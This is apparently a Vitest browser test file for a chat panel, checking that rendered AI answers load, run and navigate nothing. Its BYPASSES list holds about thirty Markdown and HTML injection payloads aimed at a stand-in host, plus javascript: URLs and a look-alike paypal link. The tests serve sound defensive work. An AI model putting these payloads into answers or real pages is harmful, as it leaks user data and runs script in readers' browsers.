import { expect, it, vi } from 'vitest';
import { page, userEvent } from 'vitest/browser';
import { makeTurn, showPanel, useStage } from './panel-stage.tsx';

useStage();

const HOST = 'leak.example.com';

/** Ways an answer may try to load, run, style or navigate something. */
const BYPASSES = [
  `![a](https://${HOST}/a.png)`,
  `![a][ref]\n\n[ref]: https://${HOST}/b.png`,
  `[![a](https://${HOST}/c.png)](https://${HOST}/d)`,
  `<img src="https://${HOST}/e.png">`,
  `text <img src=https://${HOST}/f.png onerror=alert(1)> text`,
  `<picture><source srcset="https://${HOST}/g.png"><img></picture>`,
  `<svg><image href="https://${HOST}/h.png"/><use href="https://${HOST}/i.svg#x"/></svg>`,
  `<style>body{background:url(https://${HOST}/j.png)}</style>`,
  `<link rel=stylesheet href="https://${HOST}/k.css">`,
  `<link rel=preconnect href="https://${HOST}/">`,
  `<script src="https://${HOST}/l.js"></script>`,
  `<iframe src="https://${HOST}/m"></iframe>`,
  `<iframe srcdoc="<img src=https://${HOST}/n.png>"></iframe>`,
  `<object data="https://${HOST}/o"></object><embed src="https://${HOST}/p">`,
  `<video src="https://${HOST}/q" poster="https://${HOST}/r"></video><audio src="https://${HOST}/s"></audio>`,
  `<input type=image src="https://${HOST}/t.png"><body background="https://${HOST}/u.png">`,
  `<table background="https://${HOST}/v.png"><tr><td>x</td></tr></table>`,
  `<div style="background:url(https://${HOST}/w.png)">x</div>`,
  `<meta http-equiv=refresh content="0;url=https://${HOST}/x">`,
  `<base href="https://${HOST}/">\n\n![a](y.png)`,
  `<form action="https://${HOST}/z"><button>Go</button></form>`,
  `<a href="https://${HOST}/aa" ping="https://${HOST}/ab">x</a>`,
  `[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](data:text/html,<script>alert(1)</script>)`,
  `[x](java&#115;cript:alert(1)) [y](\u0001javascript:alert(1)) <javascript:alert(1)>`,
  `| a |\n|---|\n| ![x](https://${HOST}/ac.png) <img src=https://${HOST}/ad.png> |`,
  `> - ![x](https://${HOST}/ae.png)\n>   1. <img src=https://${HOST}/af.png>`,
  `# ![x](https://${HOST}/ag.png)\n\n**![x](https://${HOST}/ah.png)** ~~![x](https://${HOST}/ai.png)~~`,
  `&lt;img src=https://${HOST}/aj.png&gt; &#60;img src=https://${HOST}/ak.png&#62;`,
  `<!--><img src=https://${HOST}/al.png>--> <![CDATA[<img src=https://${HOST}/am.png>]]>`,
  `\`\`\`html\n<img src=https://${HOST}/an.png>\n\`\`\`\n\`<img src=https://${HOST}/ao.png>\``,
];

const FORBIDDEN =
  'img,picture,source,image,use,style,link,script,iframe,object,embed,video,audio,base,form,meta,a,[style*=url],[href],[src],[srcset],[background],[ping]';

function forbiddenIn(article: Element): string[] {
  return [...article.querySelectorAll(FORBIDDEN)].map((element) => element.outerHTML);
}

it.each(BYPASSES.map((text) => [text]))('loads and runs nothing, at no prefix of it: %s', async (text) => {
  const { store } = showPanel({ turns: [makeTurn({ answer: '', state: { status: 'streaming' } })] });
  for (let length = 1; length <= text.length; length += 1) {
    store.turns.value = [makeTurn({ answer: text.slice(0, length), state: { status: 'streaming' } })];
    await Promise.resolve();
    const article = document.querySelector('article');
    if (!article) throw new Error('The turn is not shown.');
    expect(forbiddenIn(article)).toEqual([]);
  }
  store.turns.value = [makeTurn({ answer: text })];
  await expect.element(page.getByRole('button', { name: /^Retry/ })).toBeVisible();
  expect(forbiddenIn(document.querySelector('article') ?? document.body)).toEqual([]);
  expect(performance.getEntriesByType('resource').filter(({ name }) => name.includes(HOST))).toEqual([]);
});

it('shows an image of an answer as its words and host', async () => {
  showPanel({ turns: [makeTurn({ answer: `![A cat](https://${HOST}/cat.png?d=secret)` })] });
  await expect.element(page.getByText(`A cat (not loaded, from ${HOST})`)).toBeVisible();
});

it('opens a link only after its whole address was shown and confirmed', async () => {
  const { reach } = showPanel({ turns: [makeTurn({ answer: '[paypal.com](https://xn--pypal-4ve.com/in?d=1)' })] });
  const open = vi.spyOn(window, 'open');
  await page.getByRole('button', { name: 'paypal.com (xn--pypal-4ve.com)' }).click();
  await expect.element(page.getByText('https://xn--pypal-4ve.com/in?d=1')).toBeVisible();
  expect(reach.openTab).not.toHaveBeenCalled();
  await page.getByRole('button', { name: 'Open', exact: true }).click();
  expect(reach.openTab).toHaveBeenCalledExactlyOnceWith('https://xn--pypal-4ve.com/in?d=1');
  expect(open).not.toHaveBeenCalled();
});

it('shows the punycode host of a link written in look-alike letters', async () => {
  showPanel({ turns: [makeTurn({ answer: '[bank](https://pаypal.com/)' })] });
  await expect.element(page.getByRole('button', { name: 'bank (xn--pypal-4ve.com)' })).toBeVisible();
});

it('opens nothing when the question about a link is closed with Escape', async () => {
  const { reach } = showPanel({ turns: [makeTurn({ answer: '[x](https://a.example.com/)' })] });
  await page.getByRole('button', { name: 'x (a.example.com)' }).click();
  await expect.element(page.getByRole('button', { name: 'Open', exact: true })).toBeVisible();
  await userEvent.keyboard('{Escape}');
  await expect.element(page.getByRole('button', { name: 'Open', exact: true })).not.toBeInTheDocument();
  expect(reach.openTab).not.toHaveBeenCalled();
});

it('copies text and Markdown without what cannot be seen', async () => {
  const { reach } = showPanel({ turns: [makeTurn({ answer: 'safe\u202E\u200B\u{E0041} **bold**\u2066' })] });
  await page.getByRole('button', { name: 'Copy', exact: true }).click();
  await page.getByRole('button', { name: 'Copy as Markdown' }).click();
  expect(reach.writeText.mock.calls).toEqual([['safe bold'], ['safe **bold**']]);
  expect(document.querySelector('.answer')?.textContent).toBe('safe bold');
});
